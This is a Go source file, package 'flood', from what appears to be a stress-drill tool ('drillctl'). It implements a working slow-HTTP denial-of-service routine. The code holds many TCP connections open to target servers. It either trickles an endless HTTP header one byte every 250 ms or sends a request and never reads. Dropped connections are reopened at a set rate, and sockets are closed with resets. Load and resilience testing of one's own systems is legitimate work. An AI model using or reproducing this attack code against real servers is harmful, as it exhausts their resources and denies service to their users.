package flood

import (
	"fmt"
	"net"
	"net/netip"
	"strings"
	"time"

	"golang.org/x/time/rate"
)

// beat is the time between two bytes of a header, and between two looks whether a
// connection still stands.
const beat = 250 * time.Millisecond

// slow keeps so many connections open. One that ends is made anew, but never more
// of them in a second than the rate says.
func (s *Source) slow() {
	pace := rate.NewLimiter(rate.Limit(s.traffic.Rate), 1)
	for i := range s.traffic.Connections {
		s.all.Go(func() {
			for n := i; pace.Wait(s.ctx) == nil; n += s.traffic.Connections {
				s.hold(s.traffic.To[n%len(s.traffic.To)])
			}
		})
	}
}

// hold makes one connection and is in its server's way until that ends it, or all
// is over.
func (s *Source) hold(to netip.AddrPort) {
	c, err := s.dial(s.ctx, "tcp", to.String())
	if err != nil {
		if s.ctx.Err() == nil {
			s.failed.Add(1)
		}
		return
	}
	s.opened.Add(1)
	s.open.Add(1)
	defer s.open.Add(-1)
	defer abort(c)
	if s.traffic.Manner == Deaf {
		if _, err := c.Write(append(s.head(to), "\r\n"...)); err != nil {
			s.dropped.Add(1)
			return
		}
	}
	tick := time.NewTicker(beat)
	defer tick.Stop()
	rest := s.head(to)
	for {
		select {
		case <-s.ctx.Done():
			return
		case <-tick.C:
		}
		if ended(c) || s.traffic.Manner == Trickle && !drop(c, &rest) {
			s.dropped.Add(1)
			return
		}
	}
}

// drop writes the next byte; where the header would end it goes on for ever.
func drop(c net.Conn, rest *[]byte) bool {
	next := []byte("a")
	if len(*rest) > 0 {
		next, *rest = (*rest)[:1], (*rest)[1:]
	}
	_, err := c.Write(next)
	return err == nil
}

// head is a request without the line that ends its header.
func (s *Source) head(to netip.AddrPort) []byte {
	var b strings.Builder
	host, rest := to.String(), ""
	for _, h := range s.traffic.Headers {
		name, value, _ := Header(h) // Check has looked
		if strings.EqualFold(name, "Host") {
			host = value
			continue
		}
		rest += name + ": " + value + "\r\n"
	}
	fmt.Fprintf(&b, "GET %s HTTP/1.1\r\nHost: %s\r\nUser-Agent: drillctl\r\n%s", s.traffic.Path, host, rest)
	if s.traffic.Manner == Trickle {
		b.WriteString("X-Slow: ")
	}
	return []byte(b.String())
}

// abort closes with a reset, so that the server knows at once.
func abort(c net.Conn) {
	if t, ok := c.(*net.TCPConn); ok {
		_ = t.SetLinger(0)
	}
	c.Close()
}
